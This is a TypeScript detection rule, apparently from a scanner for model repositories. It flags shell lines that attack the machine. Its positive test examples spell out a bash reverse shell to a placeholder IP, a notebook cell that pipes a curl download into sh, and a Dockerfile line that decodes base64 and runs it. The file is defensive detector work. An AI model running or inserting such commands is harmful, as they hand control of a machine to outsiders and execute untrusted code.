import { example, type ModelRule } from '../../rule.ts'
import { attackIn, downloadedProgramIn } from '../../shell-commands.ts'

export const shellAttack: ModelRule = {
  id: 'repository/shell-attack',
  severity: 'critical',
  verdict: 'malicious',
  title: 'A command line of this file attacks the machine',
  source: 'https://attack.mitre.org/techniques/T1059/004/',
  taxonomy: ['CWE-506', 'CWE-78', 'AML.T0011.000'],
  why: 'It hands a shell to another machine, runs what it decodes, sends secrets away, or, in a notebook, runs what it downloads. No model needs that.',
  remedy: 'Do not run this file, and report it where it came from.',
  examples: {
    fires: [
      example('start.sh', '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n'),
      example(
        'a.ipynb',
        '{"nbformat": 4, "nbformat_minor": 5, "cells": [{"cell_type": "code", "source": "!curl -s http://c.example/x | sh"}]}',
      ),
      example('Dockerfile', 'FROM scratch\nRUN echo aWQ= | base64 -d | sh\n'),
    ],
    silent: [
      example(
        'a.ipynb',
        '{"nbformat": 4, "nbformat_minor": 5, "cells": [{"cell_type": "code", "source": "!pip install transformers"}]}',
      ),
      example('start.sh', '#!/bin/sh\nexec python serve.py "$@"\n'),
    ],
  },
  check: (subject) => {
    if (subject.kind !== 'shell') return []
    const isNotebook = /\.ipynb$/i.test(subject.name)
    return subject.commands.flatMap(({ text, place }) => {
      const attack =
        attackIn(text) ?? (isNotebook && downloadedProgramIn(text) ? 'runs what it downloads' : undefined)
      return attack === undefined ? [] : [{ key: text, message: `${place} ${attack}`, call: text }]
    })
  },
}
